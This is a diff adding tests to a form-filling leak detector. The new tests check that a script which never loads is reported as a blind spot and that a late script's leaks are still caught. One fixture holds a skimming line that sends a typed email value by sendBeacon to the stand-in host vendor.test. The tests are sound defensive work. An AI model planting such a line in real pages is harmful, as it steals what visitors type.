@@ -41,10 +41,36 @@ test('a page one of whose pictures never comes, as where a tracker is out of ord
     const { filled } = await fillOn(request =>
       request.host === 'collector.example' ? { hangs: true } : serve(page)(request),
     );
-    expect(filled.outcome).toEqual({ ok: true });
+    expect([filled.outcome, filled.blindSpots]).toEqual([{ ok: true }, []]);
     const leaving = filled.transmissions.filter(({ isSubmission }) => !isSubmission);
     expect(leaving.map(({ host }) => host)).toEqual(script === '' ? [] : ['vendor.test']);
   }
+});
+
+test('a script that never comes: what it does with what is typed is not known', async () => {
+  const body = `<form action="/join" method="post">${email}<button>Subscribe</button></form>`;
+  const page = formPage(`${body}<script async src="https://collector.example/never.js?v=1"></script>`);
+  const { filled } = await fillOn(request =>
+    request.host === 'collector.example' ? { hangs: true } : serve(page)(request),
+  );
+  expect(filled.outcome).toEqual({ ok: true });
+  expect(filled.blindSpots).toEqual([
+    'script https://collector.example/never.js: it had not come when the form was filled in, so what it does is not known',
+  ]);
+});
+
+test('a script that comes late is waited for: what it gives away is found', async () => {
+  const body = `<form action="/join" method="post">${email}<button>Subscribe</button></form>`;
+  const page = formPage(`${body}<script async src="https://collector.example/late.js"></script>`);
+  const late = `document.getElementById('email').onchange = e => navigator.sendBeacon('https://vendor.test/b', e.target.value);`;
+  const { filled } = await fillOn(request =>
+    request.host === 'collector.example'
+      ? { headers: { 'content-type': 'text/javascript' }, body: late, pauseMs: 4_500 }
+      : serve(page)(request),
+  );
+  expect([filled.outcome, filled.blindSpots]).toEqual([{ ok: true }, []]);
+  const leaving = filled.transmissions.filter(({ isSubmission }) => !isSubmission);
+  expect(leaving.map(({ host }) => host)).toEqual(['vendor.test']);
 });
 
 test('a form in three steps is walked to its end', async () => {
